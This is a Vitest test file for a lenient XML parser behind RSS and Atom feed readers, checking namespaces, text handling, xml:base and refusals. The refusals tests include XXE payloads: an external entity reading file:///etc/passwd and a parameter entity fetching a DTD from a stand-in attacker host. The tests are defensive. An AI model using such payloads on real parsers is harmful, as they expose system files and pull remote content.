// The namespace-resolved element tree that the RSS and Atom readers query (lib/xml.ts).
import { describe, expect, it } from 'vitest';
import { NotAFeedError } from '../../supabase/functions/_shared/parse/feed-model.ts';
import { NS } from '../../supabase/functions/_shared/parse/namespaces.ts';
import { parseXml, XmlError, type XmlElement } from '../../supabase/functions/_shared/parse/xml.ts';

function child(element: XmlElement, index: number): XmlElement {
  const node = element.children[index];
  if (node === undefined || typeof node === 'string') throw new Error(`child ${index} is not an element`);
  return node;
}

describe('parseXml: names and namespaces', () => {
  it('resolves the default namespace and declared prefixes, nearest declaration first', () => {
    const root = parseXml('<r xmlns="urn:d" xmlns:p="urn:p"><p:x/><a xmlns:p="urn:q"><p:x/></a><y/></r>');
    expect(root).toMatchObject({ ns: 'urn:d', name: 'r', qname: 'r' });
    expect(child(root, 0)).toMatchObject({ ns: 'urn:p', name: 'x', qname: 'p:x' });
    expect(child(child(root, 1), 0)).toMatchObject({ ns: 'urn:q', name: 'x' });
    expect(child(root, 2)).toMatchObject({ ns: 'urn:d', name: 'y' });
  });

  it('keeps a declaration to the element that makes it: siblings after it and later documents do not see it', () => {
    const root = parseXml('<r xmlns:p="urn:p"><a xmlns:p="urn:q" xmlns="urn:d"><p:x/></a><p:y/><z/></r>');
    expect(child(child(root, 0), 0).ns).toBe('urn:q');
    expect(child(root, 1).ns).toBe('urn:p');
    expect(child(root, 2).ns).toBe('');
    const first = parseXml('<r xmlns:dc="urn:mine" xmlns="urn:d"/>');
    expect(first.ns).toBe('urn:d');
    const next = parseXml('<r><dc:a/></r>');
    expect(next.ns).toBe('');
    expect(child(next, 0).ns).toBe(NS.dc);
  });

  it('reads the conventional prefixes undeclared, and a declaration wins over them', () => {
    const root = parseXml('<r><dc:a/><media:b/><content:c/><x xmlns:dc="urn:mine"><dc:a/></x></r>');
    expect(child(root, 0).ns).toBe(NS.dc);
    expect(child(root, 1).ns).toBe(NS.media);
    expect(child(root, 2).ns).toBe(NS.content);
    expect(child(child(root, 3), 0).ns).toBe('urn:mine');
  });

  it('keeps an undeclared, unconventional prefix apart from the unprefixed name', () => {
    const root = parseXml('<r><foo:title>x</foo:title></r>');
    expect(child(root, 0)).toMatchObject({ ns: 'urn:undeclared-prefix:foo', name: 'title', qname: 'foo:title' });
  });

  it('reads the known aliases of a namespace URI (spaces and a missing slash) as the canonical one', () => {
    const root = parseXml('<r xmlns:m=" http://search.yahoo.com/mrss "><m:content/></r>');
    expect(child(root, 0).ns).toBe(NS.media);
  });

  it('puts unprefixed attributes in no namespace, prefixed ones in theirs; namespace declarations are no attributes', () => {
    const root = parseXml('<r xmlns="urn:d" xmlns:p="urn:p" a="1" p:b="2" q:c="3"/>');
    expect(root.attrs).toEqual([
      { ns: '', name: 'a', value: '1' },
      { ns: 'urn:p', name: 'b', value: '2' },
      { ns: 'urn:undeclared-prefix:q', name: 'c', value: '3' },
    ]);
    expect(parseXml('<r xmlns="urn:d"/>').attrs).toEqual([]);
  });

  it('gives each element its own attributes and text, in document order', () => {
    const root = parseXml('<r>one<a k="v">two</a>three<b/></r>');
    expect(root.children).toEqual([
      'one',
      { ns: '', name: 'a', qname: 'a', attrs: [{ ns: '', name: 'k', value: 'v' }], children: ['two'], base: undefined },
      'three',
      { ns: '', name: 'b', qname: 'b', attrs: [], children: [], base: undefined },
    ]);
  });
});

describe('parseXml: text', () => {
  it('decodes references (HTML names too) and unwraps CDATA in ordinary elements', () => {
    const root = parseXml('<r><t>a &amp; b&nbsp;c<![CDATA[<b>&amp;]]>d</t></r>');
    expect(child(root, 0).children).toEqual(['a & b\u00a0c', '<b>&amp;', 'd']);
  });

  it('hands over the content of title, description and the other text elements as written', () => {
    const root = parseXml(
      '<r><title>a &amp; <b>x</b></title><description><![CDATA[<p>]]>&lt;</description><title/><media:description>m</media:description></r>',
    );
    expect(child(root, 0)).toMatchObject({ name: 'title', children: [], rawText: 'a &amp; <b>x</b>' });
    expect(child(root, 1)).toMatchObject({ name: 'description', rawText: '<![CDATA[<p>]]>&lt;' });
    expect(child(root, 2).rawText).toBe('');
    expect(child(root, 3)).toMatchObject({ ns: NS.media, name: 'description', rawText: 'm' });
  });

  it('parses the same names under another prefix as elements', () => {
    const root = parseXml('<c:r xmlns:c="urn:c"><c:title>a<b>x</b></c:title></c:r>');
    const title = child(root, 0);
    expect(title.rawText).toBeUndefined();
    expect(title.children[0]).toBe('a');
    expect(child(title, 1).name).toBe('b');
  });

  it('reads a document whose <title> another tag closes, titles then as elements', () => {
    const root = parseXml('<r><title>a</subtitle><description>d &amp; <i>e</i></description></r>');
    expect(child(root, 0)).toMatchObject({ name: 'title', children: ['a'] });
    expect(child(root, 0).rawText).toBeUndefined();
    expect(child(root, 1).rawText).toBe('d &amp; <i>e</i>');
  });

  it('takes the first element as the document element, whatever text or CDATA comes before it', () => {
    for (const text of ['<![CDATA[x]]><r/>', 'text<r/>', '<r/><s/>', '<r/>trailing']) {
      expect(parseXml(text)).toEqual({ ns: '', name: 'r', qname: 'r', attrs: [], children: [], base: undefined });
    }
  });

  it('keeps an element whose name ends in "?" or "#", which the lenient parser accepts, as an element', () => {
    expect(parseXml('<r><a?>x</a?><b#/></r>').children).toMatchObject([{ qname: 'a?', children: ['x'] }, { qname: 'b#' }]);
  });

  it('skips the declaration, comments and processing instructions around the document element', () => {
    const root = parseXml('<?xml version="1.0"?>\n<!-- c --><?pi x?><rss version="2.0"><!-- in --><?pi y?>x</rss>');
    expect(root).toMatchObject({ name: 'rss', attrs: [{ name: 'version', value: '2.0' }], children: ['x'] });
  });
});

describe('parseXml: xml:base', () => {
  it('resolves each xml:base against the one above it, the first against the document address', () => {
    const root = parseXml('<r xml:base=" /x/ "><c xml:base="y/"><d/></c><e/></r>', 'https://doc.example/feed');
    expect(root.base).toBe('https://doc.example/x/');
    expect(child(root, 0).base).toBe('https://doc.example/x/y/');
    expect(child(child(root, 0), 0).base).toBe('https://doc.example/x/y/');
    expect(child(root, 1).base).toBe('https://doc.example/x/');
  });

  it('leaves the base undefined where nothing sets one, and ignores an xml:base that cannot be resolved', () => {
    expect(parseXml('<r><c/></r>', 'https://doc.example/feed').base).toBeUndefined();
    const root = parseXml('<r xml:base="https://a.example/"><c xml:base="http://[bad"/></r>');
    expect(child(root, 0).base).toBe('https://a.example/');
    expect(parseXml('<r xml:base="relative"/>').base).toBeUndefined();
  });

  it('reads only xml:base, not a base attribute in another namespace', () => {
    expect(parseXml('<r base="https://a.example/" p:base="https://b.example/" xmlns:p="urn:p"/>').base).toBeUndefined();
  });
});

describe('parseXml: refusals', () => {
  it('refuses an entity declaration, naming the entity', () => {
    expect(() => parseXml('<!DOCTYPE r [<!ENTITY e "v">]><r>&e;</r>')).toThrow(
      new XmlError('the document declares the entity "e" in its DOCTYPE; entity declarations are refused'),
    );
  });

  it('refuses external and parameter entities as entity declarations, with the reason the parser gives', () => {
    for (const doctype of ['<!ENTITY x SYSTEM "file:///etc/passwd">', '<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;']) {
      expect(() => parseXml(`<!DOCTYPE r [${doctype}]><r>&x;</r>`)).toThrow(/^entity declarations are refused \(.+\)$/);
    }
  });

  it('says why malformed XML is refused', () => {
    const refusal = (text: string): unknown => {
      try {
        parseXml(text);
      } catch (error) {
        return error;
      }
      return undefined;
    };
    const cdata = refusal('<r><t><![CDATA[x</t></r>');
    expect(cdata).toBeInstanceOf(XmlError);
    expect((cdata as Error).message).toBe('malformed XML: CDATA is not closed.'); // the parser's own reason after ours
    expect((cdata as Error).name).toBe('XmlError');
  });

  it('says a document with no element is not a feed', () => {
    for (const text of ['', 'just text', '<?xml version="1.0"?><!-- nothing -->']) {
      expect(() => parseXml(text)).toThrow(new NotAFeedError('not a feed: not XML (no document element)'));
    }
  });
});
